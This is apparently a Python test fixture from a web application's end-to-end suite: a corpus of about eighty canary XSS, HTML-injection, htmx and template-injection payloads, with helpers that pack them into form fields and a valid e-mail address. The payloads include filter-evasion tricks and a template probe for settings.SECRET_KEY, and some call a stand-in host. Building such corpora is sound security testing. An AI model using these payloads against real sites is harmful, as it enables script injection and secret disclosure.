"""What somebody may write to make a reader's browser do something (threats 12, 14): a corpus of our own.

What lives asks for ``/canary-NN`` of the same site or for a foreign host, opens a dialog, or leaves an element with
``data-canary`` behind; ``tests/e2e/watching.py`` counts all of it. NN is the payload's number.
"""

from __future__ import annotations

_CORPUS = (
    # Scripts
    "<script data-canary>alert('canary-NN')</script>",
    "<script data-canary src=/canary-NN.js></script>",
    "<script data-canary src=//canary.example/canary-NN.js></script>",
    "<script data-canary type=module>import '/canary-NN.js'</script>",
    "<ScRiPt data-canary>alert`canary-NN`</sCrIpT>",
    "<script data-canary nonce=''>fetch('/canary-NN')</script>",
    # Elements that act by themselves
    "<img data-canary src=/canary-NN onerror=alert(1)>",
    "<img data-canary src=//canary.example/canary-NN.gif>",
    "<svg data-canary onload=alert('canary-NN')>",
    "<svg><script data-canary>alert('canary-NN')</script></svg>",
    "<svg><animate data-canary onbegin=alert('canary-NN') attributeName=x dur=1s>",
    "<body data-canary onload=alert('canary-NN')>",
    "<iframe data-canary src=\"javascript:alert('canary-NN')\"></iframe>",
    "<iframe data-canary srcdoc=\"<script>parent.alert('canary-NN')</script>\"></iframe>",
    "<object data-canary data=/canary-NN></object><embed src=/canary-NN>",
    "<video data-canary autoplay><source src=/canary-NN onerror=alert('canary-NN')></video>",
    "<details data-canary open ontoggle=alert('canary-NN')>",
    "<input data-canary autofocus onfocus=alert('canary-NN')>",
    "<link data-canary rel=stylesheet href=/canary-NN.css>",
    "<link data-canary rel=prefetch href=//canary.example/canary-NN>",
    "<base data-canary href=//canary.example/canary-NN/>",
    '<meta data-canary http-equiv=refresh content="99;url=/canary-NN">',
    "<math data-canary><mtext><img src=/canary-NN onerror=alert(1)></mtext></math>",
    '<noscript data-canary><p title="</noscript><img src=/canary-NN onerror=alert(1)>">',
    "<template data-canary shadowrootmode=open><img src=/canary-NN onerror=alert(1)></template>",
    "<table data-canary background=//canary.example/canary-NN><td>canary-NN",
    # Elements that wait for a click
    "<a data-canary href=\"javascript:alert('canary-NN')\">canary-NN</a>",
    "<a data-canary href=\"java&#9;script:alert('canary-NN')\">canary-NN</a>",
    "<a data-canary href=//canary.example/canary-NN target=_blank>canary-NN</a>",
    "<form data-canary action=//canary.example/canary-NN><button>canary-NN",
    "<button data-canary formaction=/canary-NN popovertarget=toasts>canary-NN",
    "<svg><a data-canary xlink:href=\"javascript:alert('canary-NN')\"><text y=20>canary-NN</text></a></svg>",
    # Out of an attribute
    '"><img src=/canary-NN onerror=alert(1)>',
    "'><img src=/canary-NN onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "\" onmouseover=\"alert('canary-NN')\" data-canary=\"",
    "' onfocus='alert(\"canary-NN\")' autofocus data-canary='",
    "\" autofocus onfocus=\"fetch('/canary-NN')",
    "canary-NN onpointerenter=alert(1) data-canary",
    '" style="background:url(/canary-NN)" data-canary="',
    # Addresses
    "javascript:alert('canary-NN')",
    "JaVaScRiPt:alert('canary-NN')//",
    "data:text/html,<script>alert('canary-NN')</script>",
    "//canary.example/canary-NN",
    # htmx, and the hooks of our own scripts
    "<div data-canary hx-get=/canary-NN hx-trigger=load></div>",
    "<div data-canary data-hx-get=/canary-NN data-hx-trigger=load></div>",
    '" hx-get="/canary-NN" hx-trigger="load',
    "<i data-canary hx-on::load=\"alert('canary-NN')\" hx-on:click=alert(1)>canary-NN</i>",
    "<div data-canary hx-post=/canary-NN hx-trigger=load hx-vals='js:{a:alert(1)}'></div>",
    "<div data-canary hx-get=//canary.example/canary-NN hx-trigger=load></div>",
    "<a data-canary hx-boost=true href=/canary-NN>canary-NN</a>",
    "<div data-canary class=combo data-combo=/canary-NN><input value=canary-NN></div>",
    # Templates and format strings
    "{{7*7}}canary-NN {% debug %} {{ settings.SECRET_KEY }}",
    "${7*7}canary-NN #{7*7}canary-NN <%= 7*7 %>canary-NN",
    "%(canary-NN)s %s {canary-NN.__class__} {0} {}",
    # Out of what surrounds it
    "</textarea><img src=/canary-NN onerror=alert(1)>",
    "</title><img src=/canary-NN onerror=alert(1)>",
    "</script><script data-canary>alert('canary-NN')</script>",
    "</style><img src=/canary-NN onerror=alert(1)>",
    "</option></select><img src=/canary-NN onerror=alert(1)>",
    "--><img src=/canary-NN onerror=alert(1)>",
    "]]><img src=/canary-NN onerror=alert(1)>",
    "\\\"};alert('canary-NN');//",
    # Decoded once too often
    "&lt;img src=/canary-NN onerror=alert(1)&gt;",
    "\\u003cimg src=/canary-NN onerror=alert(1)\\u003e",
    "%3Cimg%20src=/canary-NN%20onerror=alert(1)%3E",
    "＜img src=/canary-NN onerror=alert(1)＞",
    "<ſcript data-canary src=/canary-NN.js></ſcript>",
    "<im\u200bg src=/canary-NN onerror=alert(1)>",
    # Styles
    "<style data-canary>*{background:url(/canary-NN)}</style>",
    '<style data-canary>@import "//canary.example/canary-NN.css";</style>',
    '<p data-canary style="position:fixed;inset:0;background:url(/canary-NN)">canary-NN',
    # What misleads the eye, or breaks the page's width
    "canary-NN\u202egpj.exe\u2066\u200f\u200b\ufeff",
    "canary-NN" + "W" * 90,
    # Short enough for every field
    "<b data-canary>",
    '"><i data-canary>',
    "{{7*7}}canary",
)  # fmt: skip
#: What stands in a page where a template was evaluated.
EVALUATED = "49canary"
PAYLOADS = tuple(payload.replace("NN", f"{n:02}") for n, payload in enumerate(_CORPUS))


def fitting(turn: int, longest: int | None = None) -> str:
    """As much of the corpus as fits into a field, beginning with another payload at each turn."""
    usable = [payload for payload in PAYLOADS if longest is None or len(payload) <= longest]
    start = turn % len(usable)
    found, left = [], longest
    for payload in usable[start:] + usable[:start]:
        if left is None or len(payload) <= left:
            found.append(payload)
            left = None if left is None else left - len(payload) - 1
    return ("\n" if longest is None else " ").join(found)


def address(n: int) -> str:
    """An e-mail address that is valid and still a payload."""
    return f'"<img/src=/canary-{n}/onerror=alert(1)>"@huiyin.example'
